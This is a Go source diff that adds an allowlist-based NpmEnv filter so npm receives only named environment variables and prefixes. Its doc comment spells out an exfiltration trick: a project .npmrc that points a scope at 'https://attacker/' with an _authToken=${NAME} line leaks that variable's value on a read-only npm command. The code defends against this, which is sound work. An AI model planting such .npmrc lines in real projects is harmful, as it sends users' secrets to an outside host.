@@ -90,6 +90,42 @@ func ProgramEnv(env []string, home string, build bool) []string {
 	return out
 }
 
+// npmEnvNames are the variables npm gets (NpmEnv), and npmEnvPrefixes
+// the prefixes of the others it gets: what node and npm need to find their
+// files, talk to a registry through the operator's proxy and CA, and the
+// settings SafeEnv and ProgramEnv made.
+var (
+	npmEnvNames = []string{"PATH", "HOME", "USER", "LOGNAME", "SHELL", "TMPDIR", "TMP", "TEMP", "LANG", "TZ",
+		"TERM", "NO_COLOR", "PWD", "CI", "PAGER", "MANPAGER", "EDITOR", "VISUAL", "LESSSECURE", "YARN_IGNORE_PATH",
+		"HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "no_proxy",
+		"SSL_CERT_FILE", "SSL_CERT_DIR", "NODE_EXTRA_CA_CERTS", "NODE_OPTIONS", "NODE_PATH", "NODE_ENV",
+		// Windows: where the system, the profile and the programs are.
+		"SystemRoot", "SYSTEMROOT", "windir", "ComSpec", "PATHEXT", "APPDATA", "LOCALAPPDATA", "USERPROFILE",
+		"HOMEDRIVE", "HOMEPATH", "ProgramFiles", "ProgramFiles(x86)", "ProgramData"}
+	npmEnvPrefixes = []string{"LC_", "XDG_", "GIT_", "NVM_", "COREPACK_"}
+)
+
+// NpmEnv returns the part of env npm gets: npmEnvNames, the variables of
+// npmEnvPrefixes and the npm_config_* settings, nothing else. npm expands
+// ${NAME} in every .npmrc it reads, the project's included, from its own
+// environment: a project's .npmrc that points a scope at its own registry
+// (@x:registry=https://attacker/) with //attacker/:_authToken=${NAME}
+// sends NAME's value there on the first metadata request of a read-only
+// npm outdated or npm view. Whatever StripEnv's patterns miss must not be
+// in npm's environment to be sent.
+func NpmEnv(env []string) []string {
+	out := make([]string, 0, len(npmEnvNames)+8)
+	for _, kv := range env {
+		name := envName(kv)
+		_, npm := npmEnvKey(name)
+		if npm || slices.ContainsFunc(npmEnvNames, func(n string) bool { return sameEnvName(n, name) }) ||
+			slices.ContainsFunc(npmEnvPrefixes, func(p string) bool { return strings.HasPrefix(name, p) }) {
+			out = append(out, kv)
+		}
+	}
+	return out
+}
+
 // npmEnvName is the variable that sets key: npm_config_ and the key with _
 // for -.
 func npmEnvName(key string) string { return "npm_config_" + strings.ReplaceAll(key, "-", "_") }
